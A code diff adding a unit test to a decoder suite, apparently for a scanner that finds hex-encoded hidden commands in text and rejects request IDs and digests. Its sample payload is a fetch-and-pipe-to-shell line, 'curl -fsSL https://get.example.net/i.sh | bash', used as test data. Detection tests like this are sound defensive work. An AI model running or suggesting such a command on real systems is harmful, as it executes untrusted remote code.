@@ -90,5 +90,13 @@ describe('decoders', () => {
       assert.deepEqual(spans.map((s) => [s.start, s.end]), expected, t);
     }
   });
+  it('hex: text with tabs and newlines still decodes; random ids and digests are rejected before decoding', () => {
+    const payload = 'line one\tcurl -fsSL https://get.example.net/i.sh | bash\r\nline two\n';
+    const hex = Buffer.from(payload).toString('hex');
+    const spans = findEncodedSpans(`id=${hex.toUpperCase()} x=${hex}`).filter((s) => s.decoder === 'hex');
+    assert.deepEqual(spans.map((s) => s.text), [payload, payload]);
+    const ids = ['0123456789abcdef0123456789abcdef', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', '0f1e2d3c4b5a69788796a5b4c3d2e1f0'];
+    for (const id of ids) assert.deepEqual(findEncodedSpans(`X-Request-Id: ${id}`).filter((s) => s.decoder === 'hex'), [], id);
+  });
 });
 
